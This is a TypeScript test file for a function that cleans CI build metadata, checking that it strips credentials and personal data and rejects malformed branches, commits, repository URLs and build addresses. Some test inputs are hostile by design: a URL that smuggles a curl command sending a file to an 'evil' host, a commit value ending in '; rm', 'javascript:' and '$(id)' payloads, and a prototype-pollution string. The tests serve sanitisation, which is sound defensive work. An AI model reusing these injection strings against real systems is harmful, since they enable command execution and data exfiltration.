import assert from 'node:assert/strict';
import { cleanBuild } from '../../src/applivery/clean-build.js';
import type { BuildFacts } from '../../src/domain/build.js';
import type { Json } from '../../src/domain/json.js';

/** As the live API answers. */
const live = {
  id: '5e79232e98d88ac68cf7d4bc',
  status: 'Processed',
  tags: ['nightly', ' rc '],
  versionName: '1.2.0',
  versionCode: 42,
  changelog: 'First\r\nsecond\u0007',
  os: 'android',
  size: 123456,
  createdAt: '2020-03-23T20:59:26.123Z',
  storageProvider: { id: 'x', config: { secretAccessKey: 'storage-secret' } },
  uploadedBy: { email: 'jane@acme.example', firstName: 'Jane', lastName: 'Doe' },
  info: {
    android: { packageName: 'com.acme.awesome', versionCode: '7' },
    ios: { mobileprovision: { ProvisionedDevices: ['device-id'] } },
  },
  deployer: {
    name: 'fastlane',
    info: {
      branch: 'refs/heads/feature/login',
      commit: 'F52ACE0\n',
      commitMessage: ' Fix login ',
      tag: 'v1.2.0\n',
      repositoryUrl: 'https://gitlab-ci-token:job-token@git.acme.example/acme/app.git\n',
      buildUrl: 'https://ci:password@ci.acme.example/builds/73?view=log&access_token=abc#x',
      ciUrl: 'https://ci.acme.example/app',
      buildNumber: 73,
      triggerTimestamp: '1558359012580',
      certificatePassphrase: 'passphrase',
      certificateUrl: 'https://x.example/cert?token=1',
      provisionUrl: 'https://x.example/provision',
    },
  },
} as const satisfies Json;

/** The same facts, as the documentation spells them. */
const documented = {
  status: 'processed',
  size: '123456',
  uploadedBy: 'jane@acme.example',
  info: {
    ios: { plist: { CFBundleIdentifier: 'com.acme.awesome', CFBundleVersion: '42' } },
  },
  deployer: {
    name: 'bitrise',
    commit: 'f52ace0f52ace0f52ace0f52ace0f52ace0f52ac',
    tag: 'RC-1',
    git_repository_url: 'git@git.acme.example:acme/app.git',
    build_url: 'https://app.bitrise.io/build/1',
    app_url: 'https://app.bitrise.io/app/1',
    build_number: '73',
    info: { git_branch: 'develop' },
  },
} as const satisfies Json;

function gitOf(info: Json): BuildFacts['git'] {
  return cleanBuild({ deployer: { info } }).git;
}

describe('what is taken from a build', () => {
  it('is what the live API says of it, cleaned', () => {
    assert.deepEqual(cleanBuild(live), {
      status: 'processed',
      tags: ['nightly', 'rc'],
      changelog: 'First\nsecond',
      versionCode: '42',
      bundleId: 'com.acme.awesome',
      size: 123456,
      createdAt: Date.UTC(2020, 2, 23, 20, 59, 26, 123),
      git: {
        branch: 'feature/login',
        sha: 'f52ace0',
        tag: 'v1.2.0',
        repository: 'git.acme.example/acme/app',
        message: 'Fix login',
      },
      ci: { name: 'fastlane', url: 'https://ci.acme.example/builds/73?view=log', number: '73' },
    });
  });

  it('is found where the documentation says it is, too', () => {
    assert.deepEqual(cleanBuild(documented), {
      status: 'processed',
      versionCode: '42',
      bundleId: 'com.acme.awesome',
      size: 123456,
      git: {
        branch: 'develop',
        sha: 'f52ace0f52ace0f52ace0f52ace0f52ace0f52ac',
        tag: 'RC-1',
        repository: 'git.acme.example/acme/app',
      },
      ci: { name: 'bitrise', url: 'https://app.bitrise.io/build/1', number: '73' },
    });
  });

  it('is read from the live place where both are there', () => {
    const deployer = { ...documented.deployer, info: { ...live.deployer.info, git_branch: 'old' } };
    const { git, ci } = cleanBuild({ ...documented, deployer });
    assert.deepEqual(
      [git?.branch, git?.sha, git?.tag, ci?.number],
      ['feature/login', 'f52ace0', 'v1.2.0', '73'],
    );
  });

  it('holds no secret, and nothing of a person', () => {
    const text = JSON.stringify([cleanBuild(live), cleanBuild(documented)]);
    assert.doesNotMatch(
      text,
      /secret|jane|doe|device-id|password|passphrase|cert|provision|abc|job-token|gitlab-ci/i,
    );
  });

  it('is nothing where nothing is there, or of another type', () => {
    const odd = {
      status: 1,
      tags: 'a,b',
      changelog: {},
      versionCode: {},
      size: '12 MB',
      createdAt: 'soon',
      info: [],
      deployer: 'x',
    };
    for (const build of [{}, { deployer: null, info: null }, odd, [], null, 'x']) {
      assert.deepEqual(cleanBuild(build), {});
    }
    assert.deepEqual(cleanBuild({ tags: [1, null, '', 'a'] }), { tags: ['a'] });
    assert.deepEqual(cleanBuild(JSON.parse('{"__proto__": {"status": "processed"}}') as Json), {});
  });

  it('is bounded', () => {
    const long = `${'x'.repeat(65_535)}😀`;
    const facts = cleanBuild({
      changelog: long,
      tags: [...Array.from({ length: 150 }, (_, n) => `t${n}`), 'y'.repeat(201)],
      deployer: { info: { branch: 'b'.repeat(256), commitMessage: long } },
    });
    assert.equal(facts.changelog, 'x'.repeat(65_535));
    assert.equal(facts.tags?.length, 100);
    assert.equal(facts.git?.branch, undefined);
    assert.equal(facts.git?.message?.length, 65_535);
    assert.deepEqual(cleanBuild({ tags: ['y'.repeat(201), 'a'] }).tags, ['a']);
  });

  it('has a version code, an id and a status in their own shapes only', () => {
    for (const bad of ['1\n2', '<b>', '${{ x }}', '', 'x'.repeat(300)]) {
      assert.deepEqual(
        cleanBuild({ versionCode: bad, status: bad, info: { android: { packageName: bad } } }),
        {},
        bad,
      );
    }
    assert.equal(cleanBuild({ status: 'IN_PROGRESS' }).status, 'in_progress');
  });

  it('has a time, however it is written', () => {
    const of = (createdAt: Json) => cleanBuild({ createdAt }).createdAt;
    assert.equal(of(1_558_359_012), 1_558_359_012_000);
    assert.equal(of(1_558_359_012_580), 1_558_359_012_580);
    assert.equal(of('1558359012580'), 1_558_359_012_580);
    assert.equal(of('2019-05-20T13:30:12+02:00'), Date.UTC(2019, 4, 20, 11, 30, 12));
    for (const bad of ['2019-05-20', 'yesterday', 5, 1e300, '99999-01-01T00:00:00Z', true]) {
      assert.equal(of(bad), undefined, String(bad));
    }
  });
});

describe('a branch', () => {
  for (const [given, expected] of [
    ['main\n', { branch: 'main' }],
    ['refs/heads/release/1.2', { branch: 'release/1.2' }],
    ['origin/develop', { branch: 'develop' }],
    ['refs/remotes/origin/develop', { branch: 'develop' }],
    ['refs/heads/origin/develop', { branch: 'origin/develop' }],
    ['refs/pull/17/merge', { pr: 17 }],
    ['pull/17/head', { pr: 17 }],
    ['17/merge', { pr: 17 }],
    ['refs/merge-requests/9/head', { pr: 9 }],
    ['refs/tags/v1', { tag: 'v1' }],
    ['HEAD', undefined],
    ['origin/HEAD', undefined],
    ['', undefined],
    ['(HEAD detached at f52ace0)', undefined],
    ['refs/pull/0/merge', undefined],
    ['refs/stash', undefined],
    ['a..b', undefined],
    ['a\u0000b', undefined],
    ['-x', undefined],
    ['x.lock', undefined],
    ['a@{1}', undefined],
    ['\ud800', undefined],
    [7, undefined],
  ] as const) {
    it(`${JSON.stringify(given)} is ${expected ? JSON.stringify(expected) : 'unknown'}`, () => {
      assert.deepEqual(gitOf({ branch: given }), expected);
    });
  }

  it('of a pull request is none, also where the documented place names one', () => {
    assert.deepEqual(gitOf({ branch: 'refs/pull/17/merge', git_branch: 'main' }), { pr: 17 });
  });
});

describe('a tag', () => {
  for (const [given, expected] of [
    ['v1.2.0\n', 'v1.2.0'],
    ['refs/tags/v1', 'v1'],
    ['v1.2.0-14-gf52ace0', undefined],
    ['HEAD', undefined],
    ['', undefined],
  ] as const) {
    it(`${JSON.stringify(given)} is ${expected ?? 'unknown'}`, () => {
      assert.equal(gitOf({ tag: given })?.tag, expected);
    });
  }
});

describe('a commit', () => {
  for (const [given, expected] of [
    ['f52ace0\n', 'f52ace0'],
    ['F52ACE0F52ACE0F52ACE0F52ACE0F52ACE0F52AC', 'f52ace0f52ace0f52ace0f52ace0f52ace0f52ac'],
    ['f52ace', undefined],
    ['f52ace0f52ace0f52ace0f52ace0f52ace0f52ac0', undefined],
    ['HEAD', undefined],
    ['f52ace0; rm', undefined],
    [1234567, '1234567'],
  ] as const) {
    it(`${JSON.stringify(given)} is ${expected ?? 'unknown'}`, () => {
      assert.equal(gitOf({ commit: given })?.sha, expected);
    });
  }
});

describe('a repository', () => {
  for (const [given, expected] of [
    ['git@github.com:acme/awesome-app.git\n', 'github.com/acme/awesome-app'],
    ['ssh://git@git.acme.example:2222/acme/app.git', 'git.acme.example/acme/app'],
    ['https://user:token@GitHub.com/Acme/App.git', 'github.com/Acme/App'],
    ['https://github.com/acme/app/', 'github.com/acme/app'],
    ['https://git.acme.example:8443/group/sub/app', 'git.acme.example:8443/group/sub/app'],
    ['https://github.com/acme/app?token=x#y', 'github.com/acme/app'],
    ['github.com/acme/app', 'github.com/acme/app'],
    ['token@github.com/acme/app', 'github.com/acme/app'],
    ['user:token@github.com/acme/app', 'github.com/acme/app'],
    ['git@gitlab:acme/app.git', 'gitlab/acme/app'],
    ['acme/app', undefined],
    ['/srv/git/app.git', undefined],
    ['file:///srv/git/app.git', undefined],
    ['javascript:alert(1)', undefined],
    ['https://github.com/acme/../other', 'github.com/other'],
    ['git@github.com:acme/../other', undefined],
    ['https://github.com/acme/a b', undefined],
    ['https://github.com/', undefined],
    ['https://', undefined],
    ['', undefined],
  ] as const) {
    it(`${JSON.stringify(given)} is ${expected ?? 'unknown'}`, () => {
      assert.equal(gitOf({ repositoryUrl: given })?.repository, expected);
    });
  }
});

describe('the address of a run', () => {
  for (const [given, expected] of [
    ['https://ci.example/1?view=x', 'https://ci.example/1?view=x'],
    ['https://u:p@ci.example/1', 'https://ci.example/1'],
    ['https://ci.example/1?X-Amz-Signature=abc&a=1', 'https://ci.example/1?a=1'],
    ['javascript:alert(1)', undefined],
    ['ftp://ci.example/1', undefined],
    ['https://ci.example/\n1', undefined],
    ['https://a/$(curl$IFS-d@/x$IFS//evil)', 'https://a/%24%28curl%24IFS-d@/x%24IFS//evil%29'],
    ['https://a/b;c&d=e?f=1&g=%7Bh%7D', 'https://a/b%3Bc%26d%3De?f=1&g=%7Bh%7D'],
    ['https://a/%PATH%/100%', 'https://a/%25PATH%25/100%25'],
    ["https://a/?b='|`c`\\&token=1", 'https://a/?b=%27%7C%60c%60%5C'],
    ['https://$(id)/x', undefined],
    ['https://a;b/x', undefined],
    ['https://[::1]/x', undefined],
    [`https://a/${'$'.repeat(1900)}`, undefined],
    [`https://ci.example/${'x'.repeat(2000)}`, undefined],
    ['', undefined],
  ] as const) {
    it(`${JSON.stringify(given).slice(0, 60)} is ${expected ?? 'unknown'}`, () => {
      assert.equal(cleanBuild({ deployer: { info: { buildUrl: given } } }).ci?.url, expected);
    });
  }

  it('holds nothing that a shell, YAML or Markdown takes for its own, and is clean already', () => {
    const printable = String.fromCharCode(...Array.from({ length: 94 }, (_, at) => at + 0x21));
    const strange = printable.replace(/[\w#?]/g, '');
    const cleaned = (buildUrl: string) => cleanBuild({ deployer: { info: { buildUrl } } }).ci?.url;
    for (const query of [strange, `token=x&b=${strange}`]) {
      const url = cleaned(`http://u:p@ci.example:8080/x${strange}?${query}#${strange}`);
      assert.match(url ?? '', /^http:\/\/ci\.example:8080\/[\w.~/%:@,+-]+\?[\w.~/%:@,+=&?-]+$/);
      assert.equal(cleaned(url ?? ''), url);
    }
  });
});
